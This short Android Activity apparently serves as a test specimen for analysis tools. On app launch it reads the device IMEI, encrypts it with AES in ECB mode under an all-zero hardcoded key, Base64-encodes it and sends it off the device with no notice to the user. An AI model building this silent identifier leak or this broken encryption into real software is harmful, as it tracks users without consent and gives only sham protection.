package com.example.specimen;

import android.app.Activity;
import android.os.Bundle;
import android.util.Base64;
import java.security.GeneralSecurityException;
import javax.crypto.Cipher;
import javax.crypto.spec.SecretKeySpec;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        try {
            Cipher cipher = Cipher.getInstance("AES/ECB/PKCS5Padding");
            cipher.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(new byte[16], "AES"));
            Net.send(Base64.encodeToString(cipher.doFinal(Imei.read(this).getBytes()), 0));
        } catch (GeneralSecurityException error) {
            finish();
        }
    }
}
